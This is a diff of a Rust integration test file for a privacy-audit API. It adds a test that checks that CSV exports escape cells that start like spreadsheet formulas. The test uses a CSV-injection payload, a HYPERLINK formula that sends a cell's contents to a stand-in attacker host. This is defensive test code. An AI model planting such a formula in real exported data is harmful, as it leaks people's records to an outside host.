@@ -434,18 +434,89 @@ async fn csv_has_a_header_row_and_rfc_4180_quoting_and_ndjson_one_object_a_line(
     );
 }
 
+/// Security issue (CSV injection, OWASP): text a partner or the carrier chose reaches the
+/// privacy officer's spreadsheet. A cell that starts like a formula (`=`, `+`, `-`, `@`, tab,
+/// CR) is written with a leading `'`, which spreadsheets show as text, in the access history
+/// and in the DSAR; JSON keeps the value as it was given.
+#[actix_web::test]
+async fn csv_cells_that_start_like_formulas_are_written_as_text() {
+    let app = spawn_app().await;
+    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Claim\")";
+    let body = json!({ "role": "partner", "name": name,
+        "partner": { "kind": "insurer", "country": "DE", "dpa_ref": "+DPA-1" } });
+    let r = app.post("/v1/principals", &app.admin, body).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let (partner, partner_token) = (r.id(), r.token());
+    let (_, dpo) = app.principal("privacy_officer", "DPO").await;
+    let body = json!({"carrier": "DHL", "tracking_number": "-JJD1", "destination_country": "DE",
+        "recipient_ref": "crm:9", "shipper_id": shipper_id});
+    let r = app.post("/v1/shipments", &app.admin, body).await;
+    let shipment = expect(&r, StatusCode::CREATED)["id"]
+        .as_str()
+        .expect("id")
+        .to_owned();
+    let r = app
+        .post("/v1/consents", &shipper, consent_for(&partner, &shipment))
+        .await;
+    expect(&r, StatusCode::CREATED);
+    decide(&app, &partner_token, ask(&shipment)).await;
+
+    let r = app.get("/v1/audit/access?format=csv", &dpo).await;
+    assert_eq!(r.status, StatusCode::OK);
+    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0][column("partner_name")], format!("'{name}"));
+    assert_eq!(rows[0][column("tracking_number")], "'-JJD1");
+    assert_eq!(
+        rows[0][column("carrier")],
+        "DHL",
+        "other cells as they were"
+    );
+    let r = app.get("/v1/audit/access", &dpo).await;
+    let items = items(&r);
+    assert_eq!(items[0]["partner_name"], name, "JSON is not a spreadsheet");
+    assert_eq!(items[0]["tracking_number"], "-JJD1");
+
+    let r = app
+        .get("/v1/audit/dsar?recipient_ref=crm:9&format=csv", &dpo)
+        .await;
+    assert_eq!(r.status, StatusCode::OK);
+    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0][column("name")], format!("'{name}"));
+    assert_eq!(rows[0][column("dpa_ref")], "'+DPA-1");
+    assert!(rows
+        .iter()
+        .flatten()
+        .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+
+    let r = app
+        .get(
+            "/v1/audit/ropa?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z&format=csv",
+            &dpo,
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::OK);
+    let (header, rows) = parse_csv(r.body.as_str().expect("CSV text"));
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    assert_eq!(rows[0][column("name")], format!("'{name}"));
+}
+
 #[actix_web::test]
 async fn a_dsar_names_every_recipient_and_lists_denied_parties_apart() {
     let app = spawn_app().await;
-    let (_, shipper) = app.principal("shipper", "Shop").await;
+    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
     let (_, other_shipper) = app.principal("shipper", "Other").await;
     let (insurer, insurer_token) = app.partner("Insure").await;
     let (lender, lender_token) = app.partner("Lender").await;
     let (_, dpo) = app.principal("privacy_officer", "DPO").await;
-    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:4711"});
-    let shipment = app.post("/v1/shipments", &shipper, body).await.id();
-    let body = json!({"carrier": "DHL", "tracking_number": "JJD2", "destination_country": "DE", "recipient_ref": "crm:4711"});
-    let second = app.post("/v1/shipments", &shipper, body).await.id();
+    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:4711", "shipper_id": shipper_id});
+    let shipment = app.post("/v1/shipments", &app.admin, body).await.id();
+    let body = json!({"carrier": "DHL", "tracking_number": "JJD2", "destination_country": "DE", "recipient_ref": "crm:4711", "shipper_id": shipper_id});
+    let second = app.post("/v1/shipments", &app.admin, body).await.id();
     let unrelated = app.shipment(&shipper, "DHL", "JJD3", "DE").await;
     for s in [&shipment, &second, &unrelated] {
         app.post("/v1/consents", &shipper, consent_for(&insurer, s))
@@ -755,11 +826,11 @@ async fn openapi_describes_every_audit_endpoint_and_parameter() {
 #[actix_web::test]
 async fn the_binary_exports_the_same_views_to_files_for_a_regulator() {
     let app = spawn_app().await;
-    let (_, shipper) = app.principal("shipper", "Shop").await;
+    let (shipper_id, shipper) = app.principal("shipper", "Shop").await;
     let (insurer, insurer_token) = app.partner("Insure").await;
     let (_, lender_token) = app.partner("Lender").await;
-    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:1"});
-    let shipment = app.post("/v1/shipments", &shipper, body).await.id();
+    let body = json!({"carrier": "DHL", "tracking_number": "JJD1", "destination_country": "DE", "recipient_ref": "crm:1", "shipper_id": shipper_id});
+    let shipment = app.post("/v1/shipments", &app.admin, body).await.id();
     app.post("/v1/consents", &shipper, consent_for(&insurer, &shipment))
         .await;
     for _ in 0..3 {
